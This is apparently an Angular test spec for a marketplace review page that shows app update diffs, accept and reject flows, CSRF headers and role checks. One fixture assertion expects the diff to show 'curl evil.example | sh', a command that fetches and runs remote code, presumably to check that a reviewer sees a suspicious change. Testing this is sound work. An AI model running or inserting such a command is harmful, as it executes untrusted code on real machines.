import { Component } from '@angular/core';
import { TestBed } from '@angular/core/testing';
import { provideRouter, Router, withComponentInputBinding } from '@angular/router';
import { RouterTestingHarness } from '@angular/router/testing';
import type { NetworkRole } from '@clan/contracts';
import { apiError, FakeApi, flush } from '../../../testing/fake-api';
import { FETCH } from '../../core/api/api';
import { Session } from '../../core/auth/session';
import { NetworkContext } from '../network/network-context';
import { MarketplaceReviewPage } from './marketplace-review.page';
import { FROM_REV, NETWORK_ID, review, TO_REV } from './network-marketplace-fixtures';

@Component({ template: '' })
class Blank {}

const REVIEW = `/api/networks/${NETWORK_ID}/marketplace/reviews/rev-1`;

describe('MarketplaceReviewPage', () => {
  let fake: FakeApi;
  let harness: RouterTestingHarness;
  const root = () => harness.routeNativeElement as HTMLElement;
  const byTestId = <T extends HTMLElement = HTMLElement>(id: string) => root().querySelector<T>(`[data-testid="${id}"]`);

  async function settle(): Promise<void> {
    await flush();
    harness.detectChanges();
    await harness.fixture.whenStable();
    harness.detectChanges();
  }

  async function open(role: NetworkRole = 'admin' as NetworkRole): Promise<void> {
    TestBed.configureTestingModule({
      providers: [
        provideRouter(
          [
            { path: 'networks/:networkId/marketplace/reviews/:reviewId', component: MarketplaceReviewPage },
            { path: 'networks/:networkId/machines/:machine/config', component: Blank },
          ],
          withComponentInputBinding(),
        ),
        NetworkContext,
        { provide: FETCH, useValue: fake.fetch },
      ],
    });
    TestBed.inject(Session).start({ id: 'u1', username: 'alice', displayName: '', isHostAdmin: false, totpEnabled: false }, 'csrf-1', [
      { networkId: NETWORK_ID, networkName: 'home', role },
    ]);
    await TestBed.inject(NetworkContext).load(NETWORK_ID);
    harness = await RouterTestingHarness.create();
    await harness.navigateByUrl(`/networks/${NETWORK_ID}/marketplace/reviews/rev-1`, MarketplaceReviewPage);
    await settle();
  }

  beforeEach(() => {
    fake = new FakeApi()
      .on('GET', `/api/networks/${NETWORK_ID}`, { body: { id: NETWORK_ID, name: 'home', description: '', myRole: 'admin' } })
      .on('GET', REVIEW, { body: review() });
  });

  it('shows what changes, from where, between which revisions, and both diffs line by line', async () => {
    await open();
    expect(byTestId('review-title')?.textContent).toContain('Update Pin board');
    expect(byTestId('review-third-party')?.textContent).toContain('Third-party');
    expect(byTestId('review-status')?.textContent).toContain('pending');
    expect(byTestId('review-banner-pending')).not.toBeNull();
    expect(byTestId('review-source')?.textContent).toContain('example-apps');
    expect(byTestId('review-source-url')?.textContent).toContain('https://git.example.org/author/clan-apps');
    // Short revisions, the full one on hover.
    expect(byTestId('review-from-rev')?.textContent?.trim()).toBe(FROM_REV.slice(0, 12));
    expect(byTestId('review-from-rev')?.getAttribute('title')).toBe(FROM_REV);
    expect(byTestId('review-to-rev')?.textContent?.trim()).toBe(TO_REV.slice(0, 12));
    expect(byTestId('review-to-rev')?.getAttribute('title')).toBe(TO_REV);
    // The files list with +/- counts.
    const file = byTestId('review-file-apps/pin-board.nix')!;
    expect(file.textContent).toContain('modified');
    expect(file.textContent).toContain('+1');
    expect(file.textContent).toContain('−1');
    // The network repository's diff: both files, with their headers, unified, added lines marked.
    const config = byTestId('review-config-diff')!;
    const heads = Array.from(config.querySelectorAll('.diff-file-head'));
    expect(heads.map((h) => h.querySelector('code')?.textContent)).toEqual(['flake.nix', 'marketplace.json']);
    expect(heads.map((h) => h.querySelector('.badge')?.textContent)).toEqual(['modified', 'added']);
    expect(config.querySelector('.diff-unified')).not.toBeNull();
    expect(config.querySelector('tr.diff-add .diff-code')?.textContent).toContain('mkt-example-apps.url');
    // The app's source diff: the removed line red, the added one green.
    const source = byTestId('review-source-diff')!;
    expect(source.querySelector('tr.diff-del .diff-code')?.textContent).toContain('bin/pin-board');
    expect(source.querySelector('tr.diff-add .diff-code')?.textContent).toContain('curl evil.example | sh');
    expect(byTestId('review-truncated')).toBeNull();
    expect(byTestId('review-accept-note')?.textContent?.replace(/\s+/g, ' ')).toContain(
      `Pins Pin board at ${TO_REV.slice(0, 12)} in this network. Nothing is built until you deploy.`,
    );
  });

  it('says when the source diff is cut short, and shows a first install against nothing', async () => {
    fake.on('GET', REVIEW, {
      body: review({ kind: 'install', fromRev: null, sourceDiff: { ...review().sourceDiff, truncated: true } }),
    });
    await open();
    expect(byTestId('review-title')?.textContent).toContain('Install Pin board');
    expect(byTestId('review-from-rev')).toBeNull();
    expect(byTestId('review-revs')?.textContent).toContain('not pinned yet');
    expect(byTestId('review-truncated')?.textContent).toContain('too long to show in full');
  });

  it('accepts a review that names a machine and opens that machine’s configuration with the app', async () => {
    fake.on('GET', REVIEW, { body: review({ kind: 'install', fromRev: null, machine: 'server' }) });
    fake.on('POST', `${REVIEW}/accept`, {
      body: { review: review({ status: 'accepted', machine: 'server' }), commit: 'abc123', machine: 'server' },
    });
    await open();
    expect(byTestId('review-accept-note')?.textContent).toContain('Pin board is added to server, enabled with its defaults.');
    byTestId('review-accept')!.click();
    await settle();
    const sent = fake.last('POST', `${REVIEW}/accept`);
    expect(sent?.headers.get('x-csrf-token')).toBe('csrf-1');
    expect(TestBed.inject(Router).url).toBe(`/networks/${NETWORK_ID}/machines/server/config?app=pinBoard`);
  });

  it('accepts a review without a machine and stays, saying it is pinned', async () => {
    fake.on('POST', `${REVIEW}/accept`, {
      body: {
        review: review({ status: 'accepted', decidedBy: 'alice', decidedAt: '2026-12-07T11:00:00.000Z' }),
        commit: 'abc123',
        machine: null,
      },
    });
    await open();
    byTestId('review-accept')!.click();
    await settle();
    expect(TestBed.inject(Router).url).toBe(`/networks/${NETWORK_ID}/marketplace/reviews/rev-1`);
    expect(byTestId('review-banner-accepted')?.textContent).toContain('Accepted by alice');
    expect(byTestId('review-banner-accepted')?.textContent).toContain('is pinned at');
    expect(byTestId('review-accept')).toBeNull();
  });

  it('shows the API’s sentence when accepting is refused as stale, and the review as it is now', async () => {
    fake.on('POST', `${REVIEW}/accept`, apiError(409, 'CONFLICT', 'Another review of Pin board was accepted since: start a new one.'));
    await open();
    fake.on('GET', REVIEW, { body: review({ status: 'stale' }) });
    byTestId('review-accept')!.click();
    await settle();
    expect(byTestId('error-message')?.textContent).toContain('Another review of Pin board was accepted since');
    expect(byTestId('review-banner-stale')).not.toBeNull();
    expect(byTestId('review-accept')).toBeNull();
  });

  it('rejects: nothing pinned, said in a banner', async () => {
    fake.on('POST', `${REVIEW}/reject`, { body: review({ status: 'rejected', decidedBy: 'alice' }) });
    await open();
    byTestId('review-reject')!.click();
    await settle();
    expect(fake.last('POST', `${REVIEW}/reject`)).toBeDefined();
    expect(byTestId('review-banner-rejected')?.textContent).toContain('nothing was pinned or built');
  });

  it('offers no decision to members, and says a missing review in words', async () => {
    fake.on('GET', `/api/networks/${NETWORK_ID}`, { body: { id: NETWORK_ID, name: 'home', description: '', myRole: 'member' } });
    await open('member' as NetworkRole);
    expect(byTestId('review-accept')).toBeNull();
    expect(byTestId('review-not-admin')).not.toBeNull();

    fake.on('GET', `/api/networks/${NETWORK_ID}/marketplace/reviews/gone`, apiError(404, 'NOT_FOUND', 'No review "gone".'));
    await harness.navigateByUrl(`/networks/${NETWORK_ID}/marketplace/reviews/gone`, MarketplaceReviewPage);
    await settle();
    expect(byTestId('error-message')?.textContent).toContain('There is no such review in this network');
    expect(byTestId('review')).toBeNull();
  });
});
